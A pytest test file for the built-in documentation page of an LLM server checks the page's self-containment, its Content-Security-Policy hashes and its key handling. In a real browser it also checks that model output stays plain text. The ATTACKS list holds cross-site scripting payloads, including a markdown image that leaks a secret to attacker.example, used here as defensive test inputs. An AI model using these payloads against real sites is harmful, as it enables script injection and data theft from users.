"""GET /: what the page promises, and that a browser finds it so."""

from __future__ import annotations

import base64
import hashlib
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from asyncllm.server.docs import PAGE
from asyncllm.testing import FakeEngine
from tests.server.browser import CHROMIUM, browsing
from tests.server.serving import serving

pytestmark = pytest.mark.anyio

TEXT = PAGE.decode()
ATTACKS = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg/onload=document.title='owned'>",
    "[link](javascript:document.title='owned')",
    "![image](http://attacker.example/?leak=secret)",
    "</pre><iframe src=\"javascript:parent.document.title='owned'\"></iframe>",
    "</script><style>body{display:none}</style>",
)
EMPTY = {"meta", "link", "input", "br", "hr", "img"}


class Outline(HTMLParser):
    """Checks that tags are closed in order, and collects ids, labels and addresses."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.ids: list[str] = []
        self.labels: set[str] = set()
        self.fields: set[str] = set()
        self.addresses: list[str] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag not in EMPTY:
            self.open.append(tag)
        if (name := given.get("id")) is not None:
            self.ids.append(name)
            if tag in ("input", "textarea"):
                self.fields.add(name)
        if tag == "label" and (target := given.get("for")) is not None:
            self.labels.add(target)
        self.addresses += [str(given[name]) for name in ("src", "href", "action") if name in given]
        self.handlers += [name for name in given if name.startswith("on") or name == "style"]

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


def test_the_page_is_one_small_file_that_asks_nobody_else() -> None:
    assert len(PAGE) < 60_000
    assert not re.search(r"https?://|//[a-z]+\.|@import|\burl\(", TEXT)
    outline = Outline()
    outline.feed(TEXT)
    outline.close()
    assert outline.open == []
    assert len(set(outline.ids)) == len(outline.ids)
    assert outline.handlers == []
    assert set(outline.addresses) == {"data:,", "#routes"}
    assert outline.fields - outline.labels == {"stream"}  # inside its label
    assert '<html lang="en">' in TEXT
    assert set(re.findall(r'byId\("([\w-]+)"\)', TEXT)) <= set(outline.ids)


def test_nothing_is_put_into_the_page_as_markup() -> None:
    for way in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "DOMParser", "Function("):
        assert way not in TEXT
    assert "localStorage" not in TEXT
    assert "sessionStorage" not in TEXT


async def test_the_policy_allows_the_pages_own_script_and_no_other() -> None:
    async with serving(FakeEngine()) as served, served.http.get(served.url) as response:
        assert response.status == 200
        assert response.content_type == "text/html"
        policy = dict(part.strip().split(" ", 1) for part in response.headers["Content-Security-Policy"].split(";"))
        body = await response.read()
    assert policy["default-src"] == "'self'"
    for tag, directive in (("script", "script-src"), ("style", "style-src")):
        [inside] = re.findall(rf"<{tag}>(.*?)</{tag}>", body.decode(), re.DOTALL)
        digest = base64.b64encode(hashlib.sha256(inside.encode()).digest()).decode()
        assert policy[directive] == f"'sha256-{digest}'"
    assert policy["frame-ancestors"] == policy["object-src"] == policy["base-uri"] == "'none'"


async def test_the_page_opens_without_a_key_and_can_be_switched_off() -> None:
    async with serving(FakeEngine(), api_keys=["secret"]) as served, served.http.get(served.url) as response:
        assert response.status == 200
        assert "fake" not in (await response.text()).casefold()  # nothing about this server
    async with serving(FakeEngine(), disable_docs=True) as served:
        assert (await served.get("/"))[0] == 404


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed")
class TestInABrowser:
    @pytest.fixture
    def anyio_backend(self) -> Any:
        """One loop is enough for what happens in another process."""
        return "asyncio", {"use_uvloop": False}

    @pytest.mark.parametrize("streams", [True, False], ids=["streamed", "whole"])
    async def test_what_a_model_says_stays_text(self, tmp_path: Path, streams: bool) -> None:
        answer = "\n".join(ATTACKS)
        async with serving(FakeEngine(answer)) as served, browsing(tmp_path, f"{served.url}/") as page:
            await page.until("document.querySelectorAll('details.route').length > 10")
            await page.value(f"byId('stream').checked = {str(streams).lower()}; byId('max-tokens').value = 2000")
            await page.value("byId('chat-form').requestSubmit()")
            await page.until("byId('chat-status').textContent.includes('tokens')")
            assert await page.value("byId('answer').textContent") == answer
            assert await page.value("byId('answer').children.length") == 0
            assert await page.value("document.title") == "asyncllm"
            assert await page.value("document.scripts.length + document.images.length + frames.length") == 1
            assert "stop" in await page.value("byId('chat-status').textContent")
            assert page.complaints == []
            asked = {url.removeprefix(served.url) for url in page.requested}
            assert asked - {"data:,"} == {"/", "/openapi.json", "/health", "/v1/chat/completions"}

    async def test_a_key_opens_the_routes_and_a_form_tries_them(self, tmp_path: Path) -> None:
        async with (
            serving(FakeEngine({"Hello!": "pong"}), api_keys=["secret"]) as served,
            browsing(tmp_path, f"{served.url}/") as page,
        ):
            await page.until("byId('routes').textContent.includes('asks for a key')")
            await page.value("byId('key').value = 'secret'; byId('key-form').requestSubmit()")
            await page.until("document.querySelectorAll('details.route').length > 10")
            route = "byId('route-chat_completions')"
            assert await page.value(f"{route}.querySelectorAll('tbody tr').length") > 20
            assert "Bearer $ASYNCLLM_API_KEY" in await page.value(f"{route}.textContent")
            assert "secret" not in await page.value("document.body.textContent")
            await page.value(f"{route}.querySelector('button.main').click()")
            await page.until(f"{route}.textContent.includes('200 in')")
            assert "pong" in await page.value(f"{route}.querySelector('pre').textContent")
